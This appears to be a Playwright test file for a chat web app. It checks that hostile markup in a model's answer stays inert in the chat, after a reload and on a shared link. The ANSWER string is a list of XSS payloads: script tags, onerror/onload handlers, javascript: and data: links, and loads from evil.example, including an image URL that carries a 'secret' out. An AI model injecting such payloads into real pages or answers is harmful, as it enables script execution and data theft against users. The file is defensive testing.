"""Hostile markup in an answer is inert in a real browser: in the chat, after a reload, on the share page."""

from __future__ import annotations

from playwright.sync_api import Browser, Dialog, Page, expect

from tests.fakes.openai_server import ModelServer
from tests.support.browser import TELL_VIOLATIONS, open_chat, send_message
from tests.support.services import WebService

# Each would set window.hacked, open a dialog or load from evil.example.
ANSWER = """Before

<img src=x onerror="window.hacked=1">

<svg onload="window.hacked=1"><script>window.hacked=1</script></svg>

<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>

<script>window.hacked=1; alert(1)</script>

<style>@import url(https://evil.example/a.css)</style>

<video poster="https://evil.example/p.png"><source src=x onerror="window.hacked=1"></video>

<a href="javascript:window.hacked=1">raw link</a>

[click](javascript:window.hacked=1) [click](JaVaScRiPt:alert(1))

[click](data:text/html,<script>alert(1)</script>)

[click](vbscript:alert(1)) [x](https://a.example "onmouseover=window.hacked=1") <javascript:window.hacked=1>

![picture](https://evil.example/pixel.png?d=secret) ![picture][r]

![x](data:image/svg+xml,<svg/onload=alert(1)>)

[r]: https://evil.example/two.png

| <img src=x onerror="window.hacked=1"> |
|---|
| <svg/onload=window.hacked=1> |

```html"><img src=x onerror=window.hacked=1>
</code></pre><script>window.hacked=1</script>
```

$\\href{javascript:window.hacked=1}{x}$ and `</code><img src=x onerror=window.hacked=1>`

After"""
DANGEROUS = "img, svg, iframe, script, style, video, object, embed, form, base, link, [style]"


def assert_inert(page: Page, answers: str) -> None:
    """Assert that the last answer holds nothing but text and links, and that nothing ran."""
    answer = page.locator(answers).last
    expect(answer).to_contain_text("After")
    assert answer.locator(DANGEROUS).count() == 0
    found: dict[str, list[str]] = answer.evaluate(
        """node => ({
          handlers: [...node.querySelectorAll("*")].flatMap(e => [...e.attributes].map(a => a.name))
            .filter(name => name.startsWith("on") || name === "srcdoc" || name === "srcset"),
          schemes: [...node.querySelectorAll("[href]")].map(e => new URL(e.href).protocol),
        })"""
    )
    assert found["handlers"] == []
    assert set(found["schemes"]) <= {"https:"}
    assert answer.get_by_role("link", name="click").count() == 0
    for text in answer.get_by_text("click").all():
        text.click()
    assert page.evaluate("window.hacked") is None


def watch(page: Page) -> tuple[list[str], set[str]]:
    """Return the lists that fill with complaints, dialogs and hosts."""
    complaints: list[str] = []
    hosts: set[str] = set()

    def note_dialog(dialog: Dialog) -> None:
        complaints.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.add_init_script(TELL_VIOLATIONS)
    page.on("console", lambda line: complaints.append(line.text) if line.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("dialog", note_dialog)
    page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
    return complaints, hosts


def test_a_hostile_answer_is_inert_everywhere(
    server: WebService, page: Page, browser: Browser, model_server: ModelServer
) -> None:
    complaints, hosts = watch(page)
    open_chat(page, server, model_server, "verbatim")
    send_message(page, ANSWER)
    expect(page.get_by_role("button", name="Answer again")).to_be_visible(timeout=90_000)
    assert_inert(page, ".message--assistant .message__text")
    page.reload()
    assert_inert(page, ".message--assistant .message__text")
    assert page.locator(".message--user .message__text").locator(DANGEROUS).count() == 0

    page.get_by_text("More", exact=True).click()
    page.get_by_role("link", name="Share", exact=True).click()
    page.get_by_role("button", name="Make the link").click()
    link = page.get_by_label("Shared link").input_value()
    with browser.new_context() as context:
        stranger = context.new_page()
        strange_complaints, strange_hosts = watch(stranger)
        stranger.goto(link)
        assert_inert(stranger, ".message--assistant .message__text")
        stranger.wait_for_load_state("networkidle")
        assert strange_complaints == []
        assert strange_hosts == {server.url.removeprefix("http://")}

    assert complaints == []
    assert hosts == {server.url.removeprefix("http://")}
